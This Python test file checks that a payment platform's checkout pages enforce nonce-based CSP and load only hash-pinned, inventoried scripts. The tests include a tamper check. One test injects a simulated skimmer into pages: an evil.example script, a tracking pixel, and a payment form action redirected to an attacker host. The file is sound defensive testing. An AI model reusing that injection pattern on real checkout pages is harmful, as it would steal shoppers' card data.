"""Page security of the payment pages (PCI DSS 6.4.3 / 11.6.1): CSP nonces and the script inventory.

Every kind of checkout page is rendered through the real views, and each must load exactly the scripts
of `checkout/script_inventory.json`, each served with exactly the inventory's SHA-384, each carrying the
response's CSP nonce, with nothing from another origin. `kassa checkout verify-scripts` is run against a
live server, clean and tampered.
"""

from __future__ import annotations

import json
import re
import shutil
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from email.message import Message
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from flask import Flask, render_template_string
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from checkout import inventory
from checkout.script_check import Fetched, PageParser, check_page, csp_nonce_of, parse_csp
from core.jobs.runtime import Runtime
from core.web.devserver import make_dev_server
from tests.branding_images import data_url, png
from tests.factories import MadeTenant
from tests.fixtures import Factories
from tests.payments_helpers import auth, confirm, create_session, work_until_settled

ROOT = Path(__file__).resolve().parent.parent.parent
HTMX = "/static/vendor/htmx.min.js"
SHOP = "https://shop.example"
#: Any URL in CSS: url(...) and @import "...".
CSS_URL = re.compile(r"""url\(\s*['"]?([^'")\s]+)|@import\s+['"]([^'"]+)""")


# --- building every kind of checkout page ----------------------------------------------------------------


@dataclass
class PageCase:
    url: str
    status: int = 200
    #: A heading or text that proves the right page rendered.
    shows: str = ""
    #: Post this form to the URL instead of getting it.
    form: dict[str, str] | None = None
    #: Who may frame it: nobody for /pay/, the tenant's allowlist for /embed/.
    frame_ancestors: tuple[str, ...] = ("'none'",)


def _csrf_token(html: str) -> str:
    match = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', html)
    assert match, "the payment form has no CSRF token"
    return match.group(1)


def _pay_page(client: FlaskClient, rt: Runtime, tenant: MadeTenant) -> PageCase:
    cs = create_session(client, tenant, description="Coffee beans", cancel_url="https://shop.example/cart")
    return PageCase(f"/pay/{cs['id']}", shows="Card number")


def _with_logo(client: FlaskClient, rt: Runtime, tenant: MadeTenant) -> PageCase:
    branded = client.patch(
        "/api/v1/checkout/settings", json={"logo": data_url(png())}, headers=auth(tenant.keys.secret_key)
    )
    assert branded.status_code == 200, branded.json
    cs = create_session(client, tenant)
    return PageCase(f"/pay/{cs['id']}", shows='class="merchant-logo"')


def _wallet_tab(client: FlaskClient, rt: Runtime, tenant: MadeTenant) -> PageCase:
    cs = create_session(client, tenant)
    return PageCase(f"/pay/{cs['id']}?method=wallet", shows="approve the payment in your wallet")


def _bank_tab(client: FlaskClient, rt: Runtime, tenant: MadeTenant) -> PageCase:
    cs = create_session(client, tenant)
    return PageCase(f"/pay/{cs['id']}?method=bank", shows="choose your bank")


def _validation_errors(client: FlaskClient, rt: Runtime, tenant: MadeTenant) -> PageCase:
    cs = create_session(client, tenant)
    token = _csrf_token(client.get(f"/pay/{cs['id']}").get_data(as_text=True))
    form = {"csrf_token": token, "method": "card", "number": "", "expiry": "13/99", "cvc": "1"}
    return PageCase(f"/pay/{cs['id']}", form=form, shows="Enter the card number.")


def _declined(client: FlaskClient, rt: Runtime, tenant: MadeTenant) -> PageCase:
    cs = create_session(client, tenant)
    payment_id = confirm(rt, tenant, cs["id"], card_number="4000 0000 0000 0002")
    assert str(work_until_settled(rt, tenant, payment_id).status) == "failed"
    return PageCase(f"/pay/{cs['id']}?failed={payment_id}&method=card", shows="Your card was declined.")


def _processing(client: FlaskClient, rt: Runtime, tenant: MadeTenant) -> PageCase:
    cs = create_session(client, tenant)
    payment_id = confirm(rt, tenant, cs["id"])  # not worked: it stays pending
    return PageCase(f"/pay/{cs['id']}/payments/{payment_id}", shows="Processing your payment")


def _three_ds(client: FlaskClient, rt: Runtime, tenant: MadeTenant) -> PageCase:
    cs = create_session(client, tenant)
    payment_id = confirm(rt, tenant, cs["id"], card_number="4000 0027 6000 3184")
    assert str(work_until_settled(rt, tenant, payment_id).status) == "requires_action"
    return PageCase(f"/pay/{cs['id']}/payments/{payment_id}/challenge", shows="Confirm it")


def _approval(method: str) -> Callable[[FlaskClient, Runtime, MadeTenant], PageCase]:
    def build(client: FlaskClient, rt: Runtime, tenant: MadeTenant) -> PageCase:
        cs = create_session(client, tenant)
        payment_id = confirm(rt, tenant, cs["id"], method=method)
        assert str(work_until_settled(rt, tenant, payment_id).status) == "requires_action"
        return PageCase(f"/pay/{cs['id']}/payments/{payment_id}/approve", shows="Approve")

    return build


def _receipt(client: FlaskClient, rt: Runtime, tenant: MadeTenant) -> PageCase:
    cs = create_session(client, tenant, reference="order-17")
    payment_id = confirm(rt, tenant, cs["id"])
    assert str(work_until_settled(rt, tenant, payment_id).status) == "succeeded"
    return PageCase(f"/pay/{cs['id']}/receipt", shows="Payment successful")


def _expired(client: FlaskClient, rt: Runtime, tenant: MadeTenant) -> PageCase:
    cs = create_session(client, tenant, cancel_url="https://shop.example/cart")
    expired = client.post(
        f"/api/v1/checkout/sessions/{cs['id']}/expire", json={}, headers=auth(tenant.keys.secret_key)
    )
    assert expired.status_code == 200
    return PageCase(f"/pay/{cs['id']}", status=410, shows="This payment link has expired")


def _embedded(step: str) -> Callable[[FlaskClient, Runtime, MadeTenant], PageCase]:
    def build(client: FlaskClient, rt: Runtime, tenant: MadeTenant) -> PageCase:
        allowed = client.patch(
            "/api/v1/checkout/settings",
            json={"allowed_origins": [SHOP]},
            headers=auth(tenant.keys.secret_key),
        )
        assert allowed.status_code == 200, allowed.json
        cs = create_session(client, tenant)
        if step == "receipt":
            assert str(work_until_settled(rt, tenant, confirm(rt, tenant, cs["id"])).status) == "succeeded"
            return PageCase(
                f"/embed/{cs['id']}/receipt?origin={SHOP}",
                shows="Payment successful",
                frame_ancestors=(SHOP,),
            )
        return PageCase(f"/embed/{cs['id']}?origin={SHOP}", shows="Card number", frame_ancestors=(SHOP,))

    return build


def _link_amount(client: FlaskClient, rt: Runtime, tenant: MadeTenant) -> PageCase:
    link = client.post(
        "/api/v1/payment_links",
        json={"amount": None, "currency": "EUR", "description": "Donation"},
        headers=auth(tenant.keys.secret_key),
    )
    assert link.status_code == 201, link.json
    return PageCase(f"/l/{link.json['url'].rsplit('/l/', 1)[1]}", shows="Donation")


PAGES: dict[str, Callable[[FlaskClient, Runtime, MadeTenant], PageCase]] = {
    "card": _pay_page,
    "card, with the tenant's logo": _with_logo,
    "wallet": _wallet_tab,
    "bank": _bank_tab,
    "card with validation errors": _validation_errors,
    "declined, try again": _declined,
    "processing": _processing,
    "3DS challenge": _three_ds,
    "wallet approval": _approval("wallet"),
    "bank approval": _approval("bank"),
    "receipt": _receipt,
    "expired": _expired,
    "embedded card": _embedded("pay"),
    "embedded receipt": _embedded("receipt"),
    "payment link, shopper's amount": _link_amount,
}


def _open(client: FlaskClient, case: PageCase) -> TestResponse:
    return client.post(case.url, data=case.form) if case.form else client.get(case.url)


# --- what every payment page must be -------------------------------------------------------------------


def assert_locked_down(client: FlaskClient, response: TestResponse, frame_ancestors: tuple[str, ...]) -> None:
    """The checks of PCI DSS 6.4.3 on one rendered page, independent of `kassa checkout verify-scripts`."""
    listed = inventory.load()
    csp = parse_csp(response.headers["Content-Security-Policy"])
    nonce = csp_nonce_of(csp)
    assert nonce, csp
    assert csp["script-src"] == ["'self'", f"'nonce-{nonce}'"], "only Kassa's own, nonce-tagged scripts"
    assert csp["style-src"] == ["'self'", f"'nonce-{nonce}'"]
    assert csp["object-src"] == ["'none'"] and csp["base-uri"] == ["'none'"]
    assert csp["frame-ancestors"] == list(frame_ancestors), "/pay/ is never framed; /embed/ by the allowlist"
    assert csp["font-src"] == ["'self'"] and csp["img-src"] == ["'self'"]

    html = response.get_data(as_text=True)
    parser = PageParser()
    parser.feed(html)
    assert len(parser.scripts) == len(re.findall(r"<script\b", html, re.IGNORECASE))
    loaded = set()
    for tag in parser.scripts:
        assert tag.attrs.get("nonce") == nonce, f"a script without the response's nonce: {tag.attrs}"
        src = tag.attrs.get("src")
        assert src, f"an inline script (not in the inventory): {tag.text[:80]!r}"
        assert not urlsplit(src).netloc, f"a script from another origin: {src}"
        script = listed.get(urlsplit(src).path)
        assert script is not None, f"{src} is loaded but not in {inventory.INVENTORY_PATH.name}"
        assert tag.attrs.get("integrity") == script.integrity
        with client.get(src) as served:  # closes the static file
            assert served.status_code == 200
            assert inventory.sri(served.data) == script.integrity, f"{src} differs from the inventory"
        loaded.add(script.path)
    page_path = urlsplit(response.request.path).path
    assert loaded == {s.path for s in listed.expected_on(page_path)}, "the page loads exactly the inventory's"

    styles = re.findall(r"<style\b([^>]*)>", html, re.IGNORECASE)
    assert all(f'nonce="{nonce}"' in attrs for attrs in styles), "an inline style without the nonce"
    assert not re.search(r"\sstyle=", html), "a style attribute (CSP blocks it: no 'unsafe-inline')"
    assert not parser.inline_handlers, f"inline event handlers or javascript: URLs: {parser.inline_handlers}"
    for tag_name, attribute, url in parser.resources:
        assert not urlsplit(url).netloc, f"<{tag_name} {attribute}={url}> loads from another origin"
        if tag_name == "link" and url.endswith(".css"):
            with client.get(url) as stylesheet:
                css = stylesheet.get_data(as_text=True)
            for found in CSS_URL.findall(css):
                target = found[0] or found[1]
                assert not urlsplit(target).netloc and not target.startswith("//"), f"{url} loads {target}"


@pytest.mark.parametrize("kind", list(PAGES))
def test_every_checkout_page_loads_only_inventoried_scripts_with_the_csp_nonce(
    client: FlaskClient, make: Factories, clean: Runtime, kind: str
) -> None:
    tenant = make.tenants(name="Bean There")
    case = PAGES[kind](client, clean, tenant)
    response = _open(client, case)
    assert response.status_code == case.status, response.get_data(as_text=True)[:500]
    assert case.shows in response.get_data(as_text=True)
    assert_locked_down(client, response, case.frame_ancestors)
    if case.form is None:  # and what the tamper check sees of it agrees
        report = check_page(f"http://localhost{case.url}", inventory.load(), fetcher=_via(client))
        assert report.clean, report.problems


def test_each_response_gets_a_fresh_nonce(client: FlaskClient, make: Factories) -> None:
    cs = create_session(client, make.tenants())
    csps = [client.get(f"/pay/{cs['id']}").headers["Content-Security-Policy"] for _ in range(3)]
    nonces = {csp_nonce_of(parse_csp(csp)) for csp in csps}
    assert len(nonces) == 3 and None not in nonces


# --- the inventory itself is enforced --------------------------------------------------------------------


def test_every_inventoried_script_is_served_with_exactly_its_hash(client: FlaskClient) -> None:
    listed = inventory.load()
    assert listed.get(HTMX) is not None
    for script in listed.scripts:
        with client.get(script.path) as served:
            assert served.status_code == 200, (
                f"{script.path} is in the inventory but not served (for vendored files: run `make assets`)"
            )
            actual = inventory.sri(served.data)
        assert actual == script.integrity, (
            f"{script.path} changed: it is now {actual}, the inventory says {script.integrity}. If the "
            f"change is intended, review it and record the new hash (and source) in "
            f"checkout/script_inventory.json."
        )


def test_npm_scripts_in_the_inventory_are_the_versions_package_lock_pins() -> None:
    lock = json.loads((ROOT / "package-lock.json").read_text())["packages"]
    npm = [s for s in inventory.load().scripts if s.source.startswith("npm ")]
    assert npm, "htmx comes from npm"
    for script in npm:
        name, _, version = script.source.split()[1].rpartition("@")
        pinned = lock.get(f"node_modules/{name}", {})
        assert pinned.get("version") == version, (
            f"{script.path}: inventory says {name}@{version}, lock {pinned}"
        )
        assert not pinned.get("dev"), f"{name} is a devDependency: never served"


def test_a_template_cannot_load_a_script_missing_from_the_inventory(app: Flask) -> None:
    with app.test_request_context("/pay/cs_x"):
        tag = render_template_string("{{ script_tag('vendor/htmx.min.js') }}")
        assert f'integrity="{inventory.load().get(HTMX).integrity}"' in tag  # type: ignore[union-attr]
        with pytest.raises(inventory.InventoryError, match=r"not in script_inventory\.json"):
            render_template_string("{{ script_tag('vendor/skimmer.js') }}")


def test_a_malformed_inventory_is_refused(tmp_path: Path) -> None:
    bad = tmp_path / "inventory.json"
    bad.write_text(json.dumps({"scripts": [{"path": HTMX, "integrity": "sha256-x"}]}))
    with pytest.raises(inventory.InventoryError, match="needs exactly the fields"):
        inventory.load(bad)


# --- kassa checkout verify-scripts against a live server -------------------------------------------------


def _via(client: FlaskClient) -> Callable[[str, float], Fetched]:
    def fetch(url: str, timeout: float) -> Fetched:
        parts = urlsplit(url)
        with client.get(parts.path + (f"?{parts.query}" if parts.query else "")) as response:
            headers = Message()
            for name, value in response.headers.items():
                headers[name] = value
            return Fetched(response.status_code, headers, response.data)

    return fetch


Middleware = Callable[[Callable[..., Any]], Callable[..., Any]]


@dataclass
class LiveServer:
    url: str
    #: Set to wrap the app for the next requests (a proxy that tampers with responses).
    middleware: Middleware | None = None


@pytest.fixture
def live(app: Flask, clean: Runtime) -> Iterator[LiveServer]:
    server_state = LiveServer(url="")

    def wsgi(environ: dict[str, Any], start_response: Callable[..., Any]) -> Any:
        handler = server_state.middleware(app) if server_state.middleware else app
        return handler(environ, start_response)

    server = make_dev_server("127.0.0.1", 0, wsgi, threaded=True)
    thread = threading.Thread(target=server.serve_forever, name="verify-scripts-server", daemon=True)
    thread.start()
    server_state.url = f"http://127.0.0.1:{server.port}"
    yield server_state
    server.shutdown()
    server.server_close()


def verify(app: Flask, url: str) -> tuple[int, str]:
    result = app.test_cli_runner().invoke(args=["checkout", "verify-scripts", url, "--timeout", "10"])
    return result.exit_code, result.output


def _rewrite_html(change: Callable[[bytes], bytes], drop_header: str | None = None) -> Middleware:
    """A proxy in front of Kassa that alters every HTML page (as a compromised server or CDN would)."""

    def middleware(inner: Callable[..., Any]) -> Callable[..., Any]:
        def wsgi(environ: dict[str, Any], start_response: Callable[..., Any]) -> list[bytes]:
            captured: dict[str, Any] = {}

            def capture(status: str, headers: list[tuple[str, str]], exc_info: Any = None) -> Any:
                captured["status"], captured["headers"] = status, headers
                return lambda _data: None

            iterable = inner(environ, capture)
            try:
                body = b"".join(iterable)
            finally:
                if hasattr(iterable, "close"):
                    iterable.close()  # closes the static file behind a script response
            headers = [
                (name, value)
                for name, value in captured["headers"]
                if name.lower() != "content-length" and name != drop_header
            ]
            if any(name == "Content-Type" and value.startswith("text/html") for name, value in headers):
                body = change(body)
            start_response(captured["status"], [*headers, ("Content-Length", str(len(body)))])
            return [body]

        return wsgi

    return middleware


def test_verify_scripts_passes_a_clean_page_and_names_a_changed_script(
    app: Flask,
    live: LiveServer,
    client: FlaskClient,
    make: Factories,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    cs = create_session(client, make.tenants())
    url = f"{live.url}/pay/{cs['id']}"
    code, output = verify(app, url)
    assert code == 0, output
    assert "Clean" in output and HTMX in output and "Content-Security-Policy" in output

    # Someone changes one byte of htmx on the server's disk.
    static = tmp_path / "static"
    shutil.copytree(app.static_folder or "", static)
    tampered = static / "vendor" / "htmx.min.js"
    data = bytearray(tampered.read_bytes())
    data[100] = ord(" ") if data[100] != ord(" ") else ord(";")
    tampered.write_bytes(bytes(data))
    monkeypatch.setattr(app, "static_folder", str(static))
    code, output = verify(app, url)
    assert code == 1, output
    assert re.search(rf"DIFFERS\s+script\s+{re.escape(HTMX)}\s+CHANGED: serves sha384-", output), output


def test_verify_scripts_reports_injected_scripts_and_missing_headers(
    app: Flask, live: LiveServer, client: FlaskClient, make: Factories
) -> None:
    cs = create_session(client, make.tenants())
    url = f"{live.url}/pay/{cs['id']}"
    live.middleware = _rewrite_html(
        lambda html: html.replace(
            b"</body>",
            b'<script src="https://cdn.evil.example/skim.js"></script>'
            b'<script>fetch(\'/x\')</script><img src="https://evil.example/p.gif" alt=""></body>',
        ).replace(b'action="/pay/', b'action="https://evil.example/pay/'),
        drop_header="Strict-Transport-Security",
    )
    code, output = verify(app, url)
    assert code == 1, output
    assert "https://cdn.evil.example/skim.js  third-party script" in output
    assert "WITHOUT the page's nonce" in output
    assert "Strict-Transport-Security" in output and "https://evil.example/p.gif" in output
    assert "<form action>  third-party origin: https://evil.example/pay/" in output


def test_verify_scripts_reports_a_removed_script_and_a_page_that_does_not_render(
    app: Flask, live: LiveServer, client: FlaskClient, make: Factories
) -> None:
    cs = create_session(client, make.tenants())
    live.middleware = _rewrite_html(lambda html: re.sub(rb"<script[^>]*></script>", b"", html))
    code, output = verify(app, f"{live.url}/pay/{cs['id']}")
    assert code == 1 and f"{HTMX}  missing" in output, output
    live.middleware = None
    code, output = verify(app, f"{live.url}/pay/cs_unknown")
    assert code == 1 and "answered 404" in output, output
